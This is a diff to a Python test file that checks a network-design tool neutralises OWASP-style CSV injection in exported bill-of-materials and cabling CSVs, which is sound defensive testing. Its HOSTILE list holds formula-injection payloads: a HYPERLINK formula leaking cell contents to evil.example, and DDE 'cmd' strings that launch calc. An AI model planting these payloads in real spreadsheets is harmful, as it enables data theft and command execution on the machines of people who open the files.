@@ -1,7 +1,9 @@
 """CSV cells a spreadsheet would run as formulas are neutralised (OWASP "CSV Injection").
 
-``fabrics.oob.uplink_to`` is free text that reaches cabling.csv (the far end of the
-OOB uplinks); a hostile value there must reach the CSV as text.
+Free text reaches the CSVs through the catalog: a switch a spec adds under ``catalog:``
+is listed in bom.csv as "<vendor> <model>". A hostile vendor there must reach the CSV as
+text. Control characters (TAB, CR, LF) never get that far: free text refuses them at
+validate, so those cases are checked at both layers.
 """
 
 from __future__ import annotations
@@ -12,37 +14,49 @@ from pathlib import Path
 
 import pytest
 
+from aiinfra.catalog import builtin
 from aiinfra.cli import main
 from aiinfra.render.reports import neutralise
-from tests.conftest import example, lab_data, write_spec
+from tests.conftest import lab_data, write_spec
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
 ]
-# Not a formula (it starts with "a"), but its comma, CR, LF and quotes must stay inside the one cell.
-MULTILINE = 'a,b\r\n=1+1,"c"'
+CONTROL = ["\t=1+1", "\r=1+1", 'a,b\r\n=1+1,"c"']
 
 
-@pytest.mark.parametrize(("value", "cell"), [(v, "'" + v) for v in HOSTILE] + [(MULTILINE, MULTILINE)])
-def test_a_hostile_spec_value_reaches_cabling_csv_as_text(value: str, cell: str, tmp_path: Path) -> None:
+def _with_vendor(tmp_path: Path, vendor: str) -> Path:
     data = lab_data()
-    data["fabrics"]["oob"]["uplink_to"] = value
-    spec = write_spec(tmp_path, data)
+    switch = dict(builtin().switches["z9864f-on"].model_dump(mode="json"), vendor=vendor)
+    data["catalog"] = {"switches": {"evil-th5": switch}}
+    data["fabrics"]["backend"]["switches"]["leaf"]["model"] = "evil-th5"
+    return write_spec(tmp_path, data)
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_hostile_catalog_vendor_reaches_bom_csv_as_text(value: str, tmp_path: Path) -> None:
     out = tmp_path / "out"
-    assert main(["render", str(spec), "-o", str(out)]) == 0
-    rows = list(csv.DictReader(io.StringIO((out / "cabling.csv").read_bytes().decode(), newline="")))
-    assert len(rows) == len(example("lab").design.links)  # a CR in a cell starts no new row
-    uplinks = [r for r in rows if r["kind"] == "oob-uplink"]
-    assert uplinks and all(r["b_device"] == cell for r in uplinks)
-    for r in rows:  # nothing else in the file starts like a formula
-        for text in r.values():
-            assert not text.startswith(("=", "+", "@", "\t", "\r")), text
-            assert not text.startswith("-") or text.lstrip("-").replace(".", "", 1).isdigit(), text
+    assert main(["render", str(_with_vendor(tmp_path, value)), "-o", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO((out / "bom.csv").read_bytes().decode(), newline="")))
+    items = [r["item"] for r in rows if r["category"] == "switch"]
+    assert "'" + value + " " + builtin().switches["z9864f-on"].model in items
+    for name in ("bom.csv", "cabling.csv", "addressing.csv"):  # nothing in any CSV starts like a formula
+        for r in csv.reader(io.StringIO((out / name).read_bytes().decode(), newline="")):
+            for text in r:
+                assert not text.startswith(("=", "+", "@", "\t", "\r")), (name, text)
+                assert not text.startswith("-") or text.lstrip("-").replace(".", "", 1).isdigit(), (name, text)
+
+
+@pytest.mark.parametrize("value", CONTROL)
+def test_control_characters_never_reach_a_csv(value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "out"
+    assert main(["render", str(_with_vendor(tmp_path, value)), "-o", str(out)]) == 2
+    assert "catalog.switches.evil-th5.vendor" in capsys.readouterr().err
+    assert not out.exists()
+    assert neutralise(value) == ("'" + value if value[0] in "\t\r" else value)
 
 
 def test_numbers_and_plain_names_are_left_alone() -> None:
